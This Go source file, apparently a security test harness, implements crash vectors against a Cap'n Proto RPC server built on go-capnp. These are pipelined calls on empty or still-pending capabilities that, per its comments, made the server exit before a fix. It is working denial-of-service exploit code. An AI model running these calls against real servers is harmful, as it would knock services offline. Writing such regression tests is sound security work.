package hostile

import (
	"context"
	"errors"
	"fmt"
	"time"

	"github.com/sharevat/sharevat/schema"
)

// RaceCrash is §1's token-less vector, tried up to tries times, each on a
// new connection: Bootstrap (question 0), Vault.ping on it (question 1)
// and, in the same write, a call on promisedAnswer(1, [getPointerField
// 0]) — a field of ping's empty results that holds no capability. When
// the call is queued before ping answers, go-capnp (before the fix)
// dereferences a nil PipelineCaller and the server exits. It stops early
// when a connection ends without a close frame or a dial fails (both
// mean the server is gone), or when ctx ends.
func RaceCrash(ctx context.Context, url string, tries int) *Report {
	r := newReport("race-crash")
	defer r.timed()()
	answered := map[string]int{}
	for i := 0; i < tries && ctx.Err() == nil; i++ {
		c, err := Dial(ctx, url)
		r.dialed(err)
		if err != nil {
			if !errors.Is(err, ErrRefused) {
				break
			}
			continue
		}
		rets := newReturns(16)
		c.Read(rets.handle)
		c.SetWriteDeadline(time.Now().Add(answerWait))
		_ = c.Queue(Bootstrap(0))
		_ = c.Queue(PingCall(1, PromisedAnswer(0)))
		_ = c.Queue(PingCall(2, PromisedAnswer(1, 0)))
		if err := c.Flush(); err != nil {
			r.fail(fmt.Errorf("try %d: write: %w", i, err))
		}
		in, ok := awaitReturn(c, rets, 2, answerWait)
		answered[describe(in, ok)]++
		end := End{ByUs: true}
		if !ok {
			end = c.Wait(answerWait)
		}
		_ = c.Close()
		r.ended(c, end)
		if end.Dropped() {
			r.fail(fmt.Errorf("try %d: connection ended without a close frame: %v", i+1, end.Err))
			break
		}
	}
	r.Detail = fmt.Sprintf("answers to the pipelined call: %v", answered)
	return r
}

// PendingCapCrash is §1's deterministic vector, with a read token:
// Bootstrap (0), Vault.restore(token) (1), Share.reader() on its share
// field (2), and a call with interfaceID/methodID on the still-pending
// Reader (promisedAnswer(2, [0])) — an unknown interface (UnknownIfaceID)
// or an unknown method of Reader (schema.Reader_TypeID, UnknownMethod).
// Before the fix the server exits when reader() returns.
func PendingCapCrash(ctx context.Context, url, token string, interfaceID uint64, methodID uint16) *Report {
	r := newReport(fmt.Sprintf("pending-cap-crash(%#x.%d)", interfaceID, methodID))
	defer r.timed()()
	c := r.dial(ctx, url)
	if c == nil {
		return r
	}
	defer c.Close()
	rets := newReturns(16)
	c.Read(rets.handle)
	c.SetWriteDeadline(time.Now().Add(answerWait))
	_ = c.Queue(Bootstrap(0))
	_ = c.Queue(RestoreCall(1, 0, token))
	_ = c.Queue(ReaderCall(2, 1))
	_ = c.Queue(mustCall(CallSpec{QuestionID: 3, Target: PromisedAnswer(2, 0), InterfaceID: interfaceID, MethodID: methodID}))
	if err := c.Flush(); err != nil {
		r.fail(fmt.Errorf("write: %w", err))
	}
	in, ok := awaitReturn(c, rets, 3, answerWait)
	r.Detail = "the call on the pending reader: " + describe(in, ok)
	if ok {
		_ = c.Close()
		r.ended(c, End{ByUs: true})
		return r
	}
	r.ended(c, c.Wait(answerWait))
	return r
}

// UnknownInterfaceCrash is PendingCapCrash with an interface id no schema
// has.
func UnknownInterfaceCrash(ctx context.Context, url, token string) *Report {
	return PendingCapCrash(ctx, url, token, UnknownIfaceID, 0)
}

// UnknownMethodCrash is PendingCapCrash with an unknown method of Reader.
func UnknownMethodCrash(ctx context.Context, url, token string) *Report {
	return PendingCapCrash(ctx, url, token, schema.Reader_TypeID, UnknownMethod)
}
